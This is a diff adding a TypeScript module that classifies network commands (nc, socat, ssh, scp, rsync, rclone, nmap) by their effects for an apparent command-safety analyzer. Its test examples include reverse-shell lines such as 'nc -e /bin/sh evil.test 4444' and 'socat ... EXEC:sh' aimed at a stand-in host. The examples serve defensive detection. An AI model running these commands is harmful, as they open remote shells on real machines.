@@ -1,0 +1,250 @@
+import { type Call, deletes, has, known, pieceOf, plays, reads, sends, talks, value, values, writes } from "./call.ts";
+import { GAP } from "../parse/command.ts";
+import { isRemote } from "../hosts.ts";
+import { nameOf } from "../paths.ts";
+import type { Programs } from "./program.ts";
+
+/** Programs that talk to other machines. */
+export const NETWORK: Programs = {
+  "nc ncat netcat": {
+    options: "e= c= exec= sh-exec= lua-exec= p= w= s= i= q= x= X= l listen k u v z n source= wait= proxy= ssl",
+    does: (call) => {
+      const isListening = has(call, "l", "listen");
+      if (has(call, "z")) return talks(call, "out", call.operands[0]);
+      talks(call, "both", isListening ? undefined : call.operands[0]);
+      sends(call, "input");
+      if (has(call, "e", "c", "exec", "sh-exec", "lua-exec")) plays(call, "run-code");
+    },
+    examples: [
+      ["nc evil.test 4444", "network-in network-out", "talks to evil.test"],
+      ["nc -e /bin/sh evil.test 4444", "network-in network-out run-code", "talks to evil.test"],
+      ["nc -l 8080", "network-in network-out", "talks to ?"],
+    ],
+  },
+  socat: {
+    does: (call) => {
+      for (const word of call.operands) {
+        const [kind = "", place = ""] = word.text.split(":", 2);
+        if (/^(?:tcp|udp|ssl|openssl|sctp|socks|proxy)/i.test(kind))
+          talks(call, "both", /listen/i.test(kind) ? undefined : { ...word, text: place });
+        else if (/^(?:exec|system)$/i.test(kind)) plays(call, "run-code");
+        else if (/^(?:open|file|gopen)$/i.test(kind)) reads(call, { ...word, text: place.split(",", 1)[0] ?? "" });
+      }
+      sends(call, "input");
+      sends(call, "reads");
+    },
+    examples: [
+      ["socat - TCP:evil.test:80", "network-in network-out", "talks to evil.test"],
+      ["socat TCP:evil.test:80 EXEC:sh", "network-in network-out run-code", "talks to evil.test"],
+    ],
+  },
+  "telnet ftp lftp tftp": {
+    options: "p= u= e= c= n i v",
+    does: (call) => {
+      const typed = values(call, "e", "c").map(({ text }) => text);
+      const opened = /(?:^|;)\s*open\s+(\S+)/.exec(typed.join(";"))?.[1];
+      talks(call, "both", call.operands[0] ?? (opened === undefined ? undefined : known(opened.replace(/;$/, ""))));
+      sends(call, "input");
+      // The words behind `-c` of tftp stand apart: `-c put file`.
+      tellTransfers(call, [...typed, call.operands.length > 1 ? `put ${call.operands.at(-1)?.text}` : ""].join("\n"));
+    },
+    examples: [
+      ["telnet h.test", "network-in network-out", "talks to h.test"],
+      [
+        "lftp -c 'open h.test; put a'",
+        "network-in network-out",
+        "talks to h.test",
+        "reads a",
+        "file a flows to network",
+      ],
+    ],
+  },
+  "ssh autossh mosh slogin": {
+    options: "p= l= i= o= F= J= L= R= D= b= c= E= e= I= m= O= Q= S= W= w= B= N f t T v A X Y q 4 6 C n",
+    style: "first",
+    does: (call) => {
+      talks(call, "both", call.operands[0]);
+      reads(call, value(call, "i"));
+      if (call.operands.length > 1 || call.command.input.from !== "nothing") sends(call, "input");
+      if (values(call, "o").some(({ text }) => /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)/i.test(text)))
+        plays(call, "run-code");
+    },
+    examples: [
+      ["ssh -p 22 me@h.test uptime", "network-in network-out", "talks to h.test"],
+      ["ssh -i key h.test", "network-in network-out", "talks to h.test", "reads key"],
+      ["ssh -o ProxyCommand=x h.test", "network-in network-out run-code", "talks to h.test"],
+    ],
+  },
+  "scp rcp": {
+    options: "P= i= o= F= J= S= c= l= r p q C v 3 4 6 B D= X=",
+    does: (call) => {
+      transfers(call, has(call, "r"));
+      if (has(call, "S")) plays(call, "run-code");
+    },
+    examples: [
+      ["scp -r a me@h.test:b", "network-out", "reads a tree", "sends to h.test", "file a flows to network"],
+      ["scp h.test:a b", "network-in", "fetches from h.test", "writes b", "network b flows to file"],
+      ["scp h.test:x/a .", "network-in", "fetches from h.test", "writes a", "network a flows to file"],
+    ],
+  },
+  smbclient: {
+    options: "c= U= N k p= W= D= I= directory= user= password=",
+    does: (call) => {
+      talks(
+        call,
+        "both",
+        call.operands[0] &&
+          pieceOf(call.operands[0], call.operands[0].text.replace(/^\/\/|^\\\\/, "").split(/[\\/]/, 1)[0] ?? ""),
+      );
+      tellTransfers(
+        call,
+        values(call, "c")
+          .map(({ text }) => text)
+          .join("\n"),
+      );
+    },
+    examples: [
+      [
+        "smbclient //h.test/s -c 'put a'",
+        "network-in network-out",
+        "talks to h.test",
+        "reads a",
+        "file a flows to network",
+      ],
+    ],
+  },
+  sftp: {
+    options: "P= i= o= F= b= J= S= B= R= r q C",
+    does: (call) => {
+      talks(call, "both", call.operands[0]);
+      reads(call, value(call, "b"));
+      sends(call, "input");
+      tellTransfers(call, "");
+      if (has(call, "S")) plays(call, "run-code");
+    },
+    examples: [
+      ["sftp me@h.test", "network-in network-out", "talks to h.test"],
+      ["echo 'put a' | sftp h.test", "network-in network-out", "talks to h.test", "reads a", "file a flows to network"],
+      [
+        "echo 'get a b' | sftp h.test",
+        "network-in network-out",
+        "talks to h.test",
+        "writes b",
+        "network b flows to file",
+      ],
+    ],
+  },
+  rsync: {
+    options:
+      "archive|a recursive|r delete del delete-before delete-during delete-after delete-delay delete-excluded delete-missing-args force remove-source-files rsh|e= exclude= include= filter|f= exclude-from= include-from= files-from= dry-run|n verbose|v compress|z progress partial|P port= password-file= rsync-path= backup-dir= suffix= log-file= bwlimit= max-size= min-size= temp-dir|T= compare-dest= copy-dest= link-dest= chmod= chown= out-format= info= timeout= block-size|B= u update delete-",
+    does: (call) => {
+      const isDry = has(call, "dry-run");
+      transfers(call, true, isDry);
+      const isDeleting = [...call.given.keys()].some((name) => name === "del" || name.startsWith("delete"));
+      const target = call.operands.at(-1);
+      const shell = value(call, "rsh")?.text.replace(/^(?:\/\S+\/)?ssh\b[^;|&]*/, "") ?? "";
+      if (shell.trim() !== "") plays(call, "run-code");
+      if (isDry) return;
+      if (isDeleting || has(call, "remove-source-files")) plays(call, "delete");
+      if (isDeleting && target !== undefined && !isRemote(target.text))
+        deletes(call, target, { isTree: true, isForced: true });
+      if (has(call, "remove-source-files"))
+        for (const path of call.operands.slice(0, -1)) if (!isRemote(path.text)) deletes(call, path, { isTree: true });
+    },
+    examples: [
+      ["rsync -a a/ b/", "reads a tree", "writes b tree"],
+      ["rsync -a --delete empty/ b/", "delete", "reads empty tree", "writes b tree", "deletes b tree forced"],
+      ["rsync -az . me@h.test:/srv", "network-out", "reads . tree", "sends to h.test", "file . flows to network"],
+      ["rsync -n --delete a b", "reads a tree"],
+    ],
+  },
+  rclone: {
+    options: "config= dry-run|n progress|P transfers= exclude= include= filter= verbose|v",
+    does: (call) => {
+      const [verb = "", ...rest] = call.operands.map(({ text }) => text);
+      const [, from, to] = call.operands;
+      const isOut = rest.some(isRemote);
+      if (/^(?:copy|sync|move|copyto|moveto|bisync|rcat)$/.test(verb)) {
+        if (from !== undefined && !isRemote(from.text)) reads(call, from, { isTree: true });
+        if (to !== undefined && isRemote(to.text)) {
+          talks(call, "out", undefined);
+          sends(call, "reads");
+        } else {
+          if (isOut) talks(call, "in", undefined);
+          writes(call, to, { isTree: true });
+        }
+      }
+      if (verb === "rcat") sends(call, "input");
+      if (/^(?:sync|move|delete|purge|rmdirs?|deletefile|cleanup)$/.test(verb) && !has(call, "dry-run")) {
+        plays(call, "delete");
+        if (/^(?:delete|purge|rmdir)/.test(verb)) {
+          if (isOut) plays(call, "cloud", "work-loss");
+          else deletes(call, from, { isTree: true, isForced: true });
+        }
+      }
+    },
+    examples: [
+      ["rclone copy a remote:b", "network-out", "reads a tree", "sends to ?", "file a flows to network"],
+      ["rclone purge remote:b", "delete cloud work-loss"],
+    ],
+  },
+  "dig nslookup host drill dog kdig": {
+    does: (call) => {
+      const name = call.operands.find(({ text }) => !/^[@+]|^[A-Z]{1,5}$/.test(text));
+      talks(call, "out", name);
+      // The answer is text that others wrote.
+      call.told.fetches = true;
+      if (call.operands.some(({ text }) => text.includes(GAP))) sends(call, "input");
+    },
+    examples: [["dig +short x.test A", "network-out", "sends to x.test"]],
+  },
+  "ping ping6 traceroute tracepath mtr whois": {
+    options: "c= i= W= w= s= t= p= I= m= h= n q",
+    does: (call) => talks(call, "out", call.operands[0]),
+    examples: [["ping -c 1 h.test", "network-out", "sends to h.test"]],
+  },
+  "nmap masscan zmap": {
+    options: "p= oN= oX= oG= script= iL= T= top-ports= s= P= A v",
+    style: "whole",
+    does: (call) => talks(call, "both", call.operands[0]),
+    examples: [["nmap -sV h.test", "network-in network-out", "talks to h.test"]],
+  },
+};
+
+/** What is typed to send and fetch files: `put a`, `get a b`. */
+function tellTransfers(call: Call, typed: string): void {
+  for (const line of `${typed}\n${call.told.piped}`.split(/[\n;]/)) {
+    const [, verb = "", from, to] =
+      /^\s*-?(put|reput|mput|send|append|mirror\s+-R|get|reget|mget|recv)\s+(?:-\w+\s+)*(\S+)(?:\s+(\S+))?/.exec(
+        line,
+      ) ?? [];
+    if (from === undefined) continue;
+    if (/get|recv/.test(verb)) writes(call, known(to ?? nameOf(from)));
+    else {
+      reads(call, known(from), { isTree: verb.startsWith("mirror") });
+      sends(call, "reads");
+    }
+  }
+}
+
+/** Copies between machines: whichever end is remote says which way. */
+function transfers(call: Call, isTree: boolean, isDry = false): void {
+  const target = call.operands.at(-1);
+  const sources = call.operands.slice(0, -1);
+  if (target === undefined || sources.length === 0) return;
+  for (const path of sources) if (!isRemote(path.text)) reads(call, path, { isTree });
+  for (const path of sources) if (isRemote(path.text)) talks(call, "in", path);
+  if (isRemote(target.text)) {
+    talks(call, "out", target);
+    sends(call, "reads");
+  } else if (!isDry) {
+    // What is fetched into a folder keeps its name there; behind a slash, only what lies in it comes.
+    const isFolder =
+      /(?:^|\/)\.{0,2}$/.test(target.text) && sources.every(({ text }) => isRemote(text) && !text.endsWith("/"));
+    for (const path of isFolder ? sources : [target])
+      writes(call, isFolder ? pieceOf(target, `${target.text}/${nameOf(path.text.replace(/^.*:/, ""))}`) : path, {
+        isTree,
+      });
+    call.told.isSilent = true;
+  }
+}
